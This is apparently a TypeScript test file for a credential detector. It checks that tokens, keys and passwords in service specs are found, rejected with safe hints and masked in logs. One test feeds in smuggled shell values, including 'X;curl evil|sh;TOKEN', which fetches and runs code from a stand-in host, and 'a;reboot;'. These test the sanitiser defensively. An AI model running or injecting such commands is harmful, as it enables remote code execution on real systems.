import { expect } from 'chai';
import {
  findCredentials,
  HIDDEN,
  hideIn,
  rejectCredentials,
  withoutCredentials,
} from '../../../control/backends/credentials.ts';
import { UserError } from '../../../core/errors.ts';

const A = 'a'.repeat(40);
const pathsOf = (spec: Record<string, unknown>) => findCredentials(spec).map(({ path }) => path);

describe('credentials in a spec', () => {
  for (const [what, text] of Object.entries({
    'GitHub token': `ghp_${A}`,
    'fine-grained GitHub token': `github_pat_${A}`,
    'Slack token': 'xoxb-123456789012-abcdefghijkl',
    'AWS access key': 'AKIAABCDEFGHIJKLMNOP',
    'JSON Web Token': 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJl',
    'private key': '-----BEGIN RSA PRIVATE KEY-----\nMIIE',
    'URL with a password': 'postgres://app:hunter2@db.example.com/jira',
    'Authorization header': 'Bearer abcdefghijklmnop',
    'Azure storage key': `DefaultEndpointsProtocol=https;AccountKey=${A}${A}==;`,
    'Atlassian token': `ATATT3x${A}`,
    'API key': `sk-proj-${A}`,
  })) {
    it(`finds a ${what} anywhere`, () => {
      expect(pathsOf({ env: { LOG_LEVEL: text } })).to.deep.equal(['env.LOG_LEVEL']);
      expect(pathsOf({ command: ['server', text] })).to.deep.equal(['command[1]']);
      expect(pathsOf({ podTemplate: { spec: { containers: [{ env: [{ name: 'x', value: text }] }] } } })).to.deep.equal(
        ['podTemplate.spec.containers[0].env[0].value'],
      );
    });
  }

  it('finds values of variables and options that are named like credentials', () => {
    const env = {
      GITHUB_TOKEN: 'abc',
      JIRA_PASSWORD: '12345678',
      API_KEY: 'x7Hq',
      client_secret: 'shh',
      SNOWFLAKE_PWD: 'p',
    };
    expect(pathsOf({ env })).to.deep.equal(Object.keys(env).map((name) => `env.${name}`));
    expect(pathsOf({ command: ['x', '--token', 'abc', '--api-key=def'] })).to.deep.equal(['command[2]', 'command[3]']);
  });

  it('finds values of variables of a podTemplate that are named like credentials', () => {
    const env = [
      { name: 'GITHUB_TOKEN', value: 'abc' },
      { name: 'LOG_LEVEL', value: 'debug' },
    ];
    const spec = { podTemplate: { spec: { containers: [{ name: 'server', env }] } } };
    expect(pathsOf(spec)).to.deep.equal(['podTemplate.spec.containers[0].env[0].value']);
  });

  it('puts only plain names into a line for a shell', () => {
    const given = { env: { 'X;curl evil|sh;TOKEN': `ghp_${A}` } };
    const rejection = () => rejectCredentials('a;reboot;', given, { kind: 'cluster', secretsLocation: 'mcp' });
    expect(rejection)
      .to.throw(UserError)
      .with.property('hint')
      .that.does.not.match(/curl|reboot/);
  });

  for (const unit of ['a.', 'a-', 'SG.a', 'http://a']) {
    it(`are looked for in time proportional to the length of a line of ${unit}`, () => {
      const cpuMs = (line: string, times: number) => {
        const before = process.cpuUsage();
        for (let i = 0; i < times; i++) hideIn(line);
        const { user, system } = process.cpuUsage(before);
        return (user + system) / 1000;
      };
      const manyShort = cpuMs(unit.repeat(100), 1000);
      const oneLong = cpuMs(unit.repeat(100_000), 1);
      // About 1 when proportional, about 1,000 when every start is tried to the end of the line.
      expect(oneLong / manyShort).to.be.below(30);
    });
  }

  it('ignores what only resembles one', () => {
    const env = {
      ...{ MAX_TOKENS: '4096', TOKEN: '600', GITHUB_TOKEN_FILE: '/run/secrets/token', API_KEY: '/run/secrets/key' },
      ...{
        SECRET: '$OTHER',
        USE_AUTH: 'true',
        PASSWORD: '',
        KEYBOARD: 'qwertz-qwertz-qwertz',
        URL: 'https://a.example/x',
      },
      ...{ AUTHOR: 'Ann Example', COMMIT: 'da39a3ee5e6b4b0d3255bfef95601890afd80709', PATHS: '/a:/b@c' },
    };
    expect(
      findCredentials({ env, image: 'ghcr.io/acme/jira:1.2@sha256:0000', command: ['x', '--token', '--verbose'] }),
    ).to.deep.equal([]);
    expect(findCredentials({ secretEnv: { GITHUB_TOKEN: { name: 'github', key: 'token' } } })).to.deep.equal([]);
    expect(findCredentials({ upstreamAuth: { type: 'bearer', secret: { name: 'wiki', key: 'token' } } })).to.deep.equal(
      [],
    );
  });

  it('are rejected with a hint, and never repeated', () => {
    const secret = `ghp_${A}`;
    const rejection = (kind: 'folder' | 'cluster') => {
      try {
        rejectCredentials('github', { env: { GITHUB_TOKEN: secret } }, { kind, secretsLocation: 'mcp' });
      } catch (error) {
        if (error instanceof UserError) return error;
      }
      throw new Error('nothing was rejected');
    };
    expect(rejection('cluster').code).to.equal('usage');
    expect(rejection('cluster').hint).to.include('kubectl -n mcp create secret').and.include('secretEnv');
    expect(rejection('folder').hint).to.include('upstreamAuth').and.not.include('secretEnv');
    for (const kind of ['folder', 'cluster'] as const) {
      expect(`${rejection(kind).message}${rejection(kind).hint}`).to.not.include(secret);
    }
  });

  it('are hidden in shown backends and log lines', () => {
    const spec = { name: 'x', env: { TOKEN: 'abcdefgh', LEVEL: 'info' }, command: ['run', `--key=ghp_${A}`, 'on'] };
    expect(withoutCredentials(spec)).to.deep.equal({
      name: 'x',
      env: { TOKEN: HIDDEN, LEVEL: 'info' },
      command: ['run', HIDDEN, 'on'],
    });
    expect(hideIn(`using ghp_${A} and ghp_${A} now`)).to.equal(`using ${HIDDEN} and ${HIDDEN} now`);
  });
});
